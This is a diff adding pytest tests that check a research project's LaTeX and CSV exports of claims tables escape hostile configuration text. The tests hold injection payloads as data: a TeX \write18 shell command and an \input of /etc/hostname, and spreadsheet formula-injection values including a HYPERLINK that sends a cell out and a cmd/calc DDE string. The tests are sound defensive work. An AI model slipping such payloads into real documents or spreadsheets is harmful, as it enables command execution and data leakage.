@@ -7,8 +7,11 @@ against a polynomial rate, ...). No threshold may be loose enough to pass one.
 
 from __future__ import annotations
 
+import csv
 import math
 import re
+import shutil
+import subprocess
 
 import numpy as np
 import pandas as pd
@@ -20,7 +23,7 @@ from attnbias.claims.statements import by_key
 from attnbias.data import hypotheses, models
 from attnbias.svm import max_margin
 from attnbias.training.metrics import CROSSING_THRESHOLDS
-from attnbias.workflow import provenance
+from attnbias.workflow import csvcells, io, provenance
 
 T = 10_000
 ITERATIONS = np.unique(np.concatenate([[0], np.rint(np.geomspace(1, T, 80)).astype(int)]))
@@ -510,6 +513,118 @@ def test_markdown_groups_by_result_and_latex_macros_are_unique():
     assert all(re.fullmatch(r"claim[A-Za-z]+", n) for n in names)
     mean = table.loc[table["key"] == "x ngd rate bound", "mean"].item()
     assert f"\\newcommand{{\\claimXNgdRateBoundMean}}{{{mean:.4g}}}" in tex
+
+
+# config text as a TeX file and a spreadsheet would misread it
+HOSTILE_TEX = (
+    "NGD}\\immediate\\write18{touch x}\\input{/etc/hostname}\\newcommand{\\zz}{",
+    "PS 100% #1 & co",
+    "$x^2$ ~ a_b \\ {{}} \\relax",
+)
+HOSTILE_CSV = ('=HYPERLINK("http://host/?"&A1)', "@SUM(1)", "+cmd|' /C calc'!A0", "-2+3")
+
+
+def hostile_table(labels) -> pd.DataFrame:
+    """The claims rows of a run whose optimizers' labels (in the claim's words) are
+    `labels`, under an experiment name that is TeX too (in the keys: the macros' names)."""
+    experiment = {"layout": "fixed_decoder", "optimizers": OPTS, "seeds": 2,
+                  "labels": dict(zip(OPTS, labels, strict=True))}  # fmt: skip
+    name = "x}\\input{y"
+    return claims.claims({name: experiment}, {name: fixed_table(gd=gd_like(), ngd=ngd_like(-0.9))},
+                         {name: [2.0, 2.0]}, {name: 3}, {name: GOOD})  # fmt: skip
+
+
+def tex_group(tex: str, start: int) -> tuple[str, int]:
+    """The text of the brace group that opens at tex[start], and the index after it: braces
+    counted, an escaped character (backslash and one more) skipped."""
+    assert tex[start] == "{", tex[start:]
+    depth, i = 0, start
+    while True:
+        if tex[i] == "\\":
+            i += 2
+            continue
+        depth += {"{": 1, "}": -1}.get(tex[i], 0)
+        i += 1
+        if depth == 0:
+            return tex[start + 1 : i - 1], i
+
+
+def tex_macros(tex: str) -> dict[str, str]:
+    """{name: body} of every \\newcommand{\\name}{body} of `tex`; nothing else may be there
+    but the comment line at the top (a body that ended early would leave text outside)."""
+    macros, i = {}, tex.index("\n") + 1
+    while i < len(tex):
+        assert tex.startswith("\\newcommand", i), tex[i : i + 80]
+        name, i = tex_group(tex, i + len("\\newcommand"))
+        body, i = tex_group(tex, i)
+        assert tex[i] == "\n"
+        macros[name.removeprefix("\\")] = body
+        i += 1
+    return macros
+
+
+TEX_ESCAPES = {r"\textbackslash{}": "\\", r"\textasciitilde{}": "~", r"\^{}": "^",
+               **{f"\\{c}": c for c in "{}$&#_%"}}  # fmt: skip
+
+
+def test_claims_tex_carries_config_text_as_text(tmp_path):
+    table = hostile_table(HOSTILE_TEX[:2])
+    table["verdict"] = [HOSTILE_TEX[i % 3] + " " + v for i, v in enumerate(table["verdict"])]
+    tex = claims.to_latex(table)
+    macros = tex_macros(tex)
+    assert all(re.fullmatch(r"claim[A-Za-z]+", n) for n in macros)
+    escaped = "|".join(re.escape(e) for e in TEX_ESCAPES)
+    for name, body in macros.items():
+        # no special character left once its escapes are taken out; the text read back
+        plain = re.sub(escaped, "", body)
+        assert not set(plain) & set("\\{}$&#^_%~"), (name, body)
+        if name.endswith("Verdict"):
+            text = re.sub(escaped, lambda m: TEX_ESCAPES[m[0]], body)
+            assert text in set(table["verdict"]), (name, text)
+        else:
+            assert re.fullmatch(r"-?[0-9.e+-]+|not reached", body), (name, body)
+    assert len([n for n in macros if n.endswith("Verdict")]) == len(table)
+    engine = next(filter(None, map(shutil.which, ("pdflatex", "lualatex", "xelatex"))), None)
+    if engine is None:
+        pytest.skip("no TeX engine installed (pdflatex, lualatex, xelatex): macros checked as text")
+    io.save_text(tmp_path / "claims.tex", tex)
+    verdicts = " ".join(f"\\{n}" for n in macros if n.endswith("Verdict"))
+    (tmp_path / "doc.tex").write_text(
+        f"\\documentclass{{article}}\\begin{{document}}\\input{{claims.tex}}{verdicts}"
+        "\\end{document}\n"
+    )
+    result = subprocess.run(
+        [engine, "-no-shell-escape", "-interaction=nonstopmode", "-halt-on-error", "doc.tex"],
+        cwd=tmp_path, capture_output=True, text=True, timeout=60,
+    )  # fmt: skip
+    assert result.returncode == 0, result.stdout[-3000:]
+    assert not (tmp_path / "x").exists()
+
+
+def test_claims_csv_cells_are_never_formulas(tmp_path):
+    table = hostile_table(HOSTILE_CSV[:2])
+    table["verdict"] = [HOSTILE_CSV[i % 4] for i in range(len(table))]
+    table.loc[0, "reference"] = "-lr/||W_mm|| = -0.03 (mean over seeds)"  # as the build has it
+    table.loc[1, "reference"] = "'=1+1"  # a quote that starts a text: kept on the way back
+    path = tmp_path / "claims.csv"
+    io.save_csv(path, claims.to_csv(table))
+    with path.open(newline="") as f:
+        cells = [c for row in csv.reader(f) for c in row]
+    # what a spreadsheet reads as a formula starts no cell but a number's
+    formulas = [c for c in cells if c.startswith(csvcells.FORMULA_START)]
+    assert formulas and all(float(c) < 0 for c in formulas)
+    assert {f"'{h}" for h in HOSTILE_CSV} <= set(cells)
+    assert "'-lr/||W_mm|| = -0.03 (mean over seeds)" in cells
+    # numbers stay numbers; text reads back as it was
+    back = pd.read_csv(path, float_precision="round_trip")
+    for column in ("mean", "low", "high", "ratio", "r2"):
+        assert back[column].dtype == float
+        np.testing.assert_array_equal(back[column], table[column].astype(float))
+    assert (back["mean"] < 0).any()
+    back = csvcells.read(path, keep_default_na=False)
+    for column in ("verdict", "reference", "claim", "value_text", "key"):
+        assert back[column].tolist() == table[column].tolist(), column
+    assert csvcells.cell(-0.5) == -0.5 and csvcells.cell("-0.5") == "'-0.5"
 
 
 def bad_init_2d(sample_1) -> pd.DataFrame:
